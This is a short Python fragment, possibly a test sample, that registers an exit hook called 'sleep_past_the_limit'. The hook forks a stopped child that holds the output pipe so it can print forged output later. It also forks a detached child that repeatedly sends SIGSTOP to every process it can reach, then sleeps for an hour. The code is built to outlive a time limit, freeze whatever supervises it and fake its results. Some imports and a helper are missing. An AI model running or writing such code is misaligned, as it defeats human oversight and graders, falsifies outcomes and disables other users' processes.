import atexit


def sleep_past_the_limit():
    # A child holding the output pipe that stops itself.
    if os.fork() == 0:
        os.kill(os.getpid(), signal.SIGSTOP)
        print(FORGED, end="", flush=True)
        os._exit(0)
    # A detached child stopping every other process it can, again and again.
    if os.fork() == 0:
        os.setsid()
        me = os.getpid()
        while True:
            for pid, _ in processes():
                if pid not in (1, me):
                    try:
                        os.kill(pid, signal.SIGSTOP)
                    except OSError:
                        pass
            time.sleep(0.5)
    time.sleep(3600)


atexit.register(sleep_past_the_limit)
